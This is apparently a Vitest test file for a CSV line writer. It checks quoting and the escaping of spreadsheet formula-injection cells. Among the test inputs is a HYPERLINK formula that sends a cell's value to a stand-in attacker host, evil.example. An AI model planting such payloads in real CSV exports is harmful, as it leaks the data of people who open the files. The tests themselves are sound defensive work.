import { csvLine } from '../../../src/core/csv.ts';
import { describe, expect, it } from 'vitest';

describe('a CSV line', () => {
  it('quotes commas, quotes and line breaks', () => {
    expect(csvLine(['a', 'b,c', 'say "hi"', 'two\nlines', ''])).toBe(
      'a,"b,c","say ""hi""","two\nlines",\r\n',
    );
  });

  it('writes numbers as they are, and an empty cell for no value', () => {
    expect(csvLine([-5, 12n, true, undefined, null])).toBe('-5,12,true,,\r\n');
  });

  it.each([
    '=1+1',
    '+1',
    '-1+1',
    '-1.2.3',
    '@SUM(A1)',
    '\tcmd',
    '\r=1',
    '\n=1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    '=HYPERLINK("https://evil.example?x="&A1,"look")',
  ])('escapes %j, which a spreadsheet would run', (cell) => {
    const line = csvLine([cell]);
    expect(line).toMatch(/^"?'/);
    const inner = line.startsWith('"')
      ? line.slice(1, -3).replaceAll('""', '"')
      : line.slice(0, -2);
    expect(inner).toBe(`'${cell}`);
  });

  it.each(['-1', '-0.020000', '0.02'])('keeps the number %s, which is no formula', (cell) => {
    expect(csvLine([cell])).toBe(`${cell}\r\n`);
  });

  it('keeps text that has a formula sign after its start', () => {
    expect(csvLine(['a=b', 'x-y', 'me@example.com', "'='"])).toBe("a=b,x-y,me@example.com,'='\r\n");
  });
});
